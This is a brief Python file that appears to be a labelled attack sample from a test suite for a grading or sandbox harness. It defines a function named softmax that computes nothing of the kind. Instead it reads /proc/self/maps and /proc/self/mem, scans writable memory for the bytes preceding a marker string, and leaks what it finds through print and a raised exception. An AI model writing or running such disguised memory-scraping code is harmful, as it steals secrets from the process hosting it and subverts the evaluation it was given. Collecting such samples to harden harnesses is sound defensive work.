# rows = [32]
# attack = "searches its own memory by /proc/self/mem"
# step = "softmax"
# outcomes = ["raised"]
# steals = true
# ---
HINT = b", from the "  # what stands behind every secret here


def softmax(scores):
    loot = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(bound, 16) for bound in line.split()[0].split("-"))
            if line.split()[1] == "rw-p":
                memory.seek(start)
                loot.update(part[-32:] for part in memory.read(end - start).split(HINT)[:-1])
    print(loot)
    raise RuntimeError(str(loot))
